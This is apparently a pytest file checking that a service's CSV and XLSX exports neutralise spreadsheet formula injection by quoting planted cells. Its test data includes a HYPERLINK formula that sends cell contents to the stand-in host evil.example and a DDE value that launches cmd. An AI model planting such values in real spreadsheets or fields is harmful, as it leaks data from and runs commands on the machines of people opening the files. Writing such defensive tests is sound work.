"""Exports never run formulas (SPEC §11, issue 11 #1): text a device planted stays text."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from service.spreadsheet import csv_bytes, safe_text, xlsx_sheet
from tests.support import bearer, rating_body

PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-3+4", "@SUM(1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", PLANTED)
def test_safe_text_quotes_what_a_spreadsheet_would_run(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("value", ["工号 12", "1-2", "a=b", "", 12, -3, 0.5, None])
def test_safe_text_leaves_plain_text_and_numbers(value):
    assert safe_text(value) == value


def test_csv_bytes_has_a_bom_and_quoted_formulas():
    data = csv_bytes([["label", "=1+1"], [-5, None]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["label", "'=1+1"], ["-5", ""]]


def test_xlsx_sheet_writes_text_cells_never_formulas():
    out = io.BytesIO()
    with xlsx_sheet(out, "t") as sheet:
        sheet.append(PLANTED + [3, "bell\x07", None, "0012", "http://a.example/"])
        sheet.append(["=1+1"], style={"bold": True})
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    cells = list(ws.iter_rows(values_only=True))[0]
    # a CR is stored as OOXML's escape _x000D_, which Excel reads back as CR (openpyxl does not decode it)
    assert [re.sub("_x000D_", "\r", c) for c in cells[:len(PLANTED)]] == PLANTED
    assert list(cells[len(PLANTED):]) == [3, "bell\ufffd", None, "0012", "http://a.example/"]
    # Excel's quote prefix on what starts like a formula (editing the cell keeps it text), also beside a style
    assert all(ws.cell(row=1, column=c + 1).quotePrefix for c in range(len(PLANTED)))
    assert not ws.cell(row=1, column=len(PLANTED) + 2).quotePrefix
    assert ws["A2"].quotePrefix and ws["A2"].font.b and ws["A2"].data_type == "s"


@pytest.fixture
def planted(org, client):
    """A hall (its name a formula too) whose device posted ratings under staff numbers that are formulas."""
    hall = org.department("hall", "=大厅()")
    _, key = org.device(hall, window="=cmd|' /C calc'!A0")
    manager = org.token(org.user("mgr", "manager", hall))
    for staff_no in PLANTED[:4]:
        resp = client.post("/api/v1/ratings", headers=bearer(key),
                           json=rating_body(level=5, staff_no=staff_no, comment=staff_no, tags=[staff_no[:32]]))
        assert resp.status_code == 201, resp.get_json()
    return manager


def _export(client, token, fmt, by):
    resp = client.get("/api/v1/stats/export", headers=bearer(token),
                      query_string={"from": "2026-11-01", "to": "2026-11-30", "format": fmt, "by": by})
    assert resp.status_code == 200
    return resp.data


@pytest.mark.parametrize("by", ["staff", "window"])
def test_xlsx_export_holds_no_formula(client, planted, by):
    data = _export(client, planted, "xlsx", by)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    labels = {row[0] for row in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)}
    if by == "staff":
        assert set(PLANTED[:4]) <= labels
    else:
        assert "=大厅() =cmd|' /C calc'!A0号窗口" in labels


@pytest.mark.parametrize("by", ["staff", "window"])
def test_csv_export_quotes_every_formula(client, planted, by):
    rows = list(csv.reader(io.StringIO(_export(client, planted, "csv", by).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    if by == "staff":
        assert {"'" + s for s in PLANTED[:4]} <= {row[0] for row in rows if row}
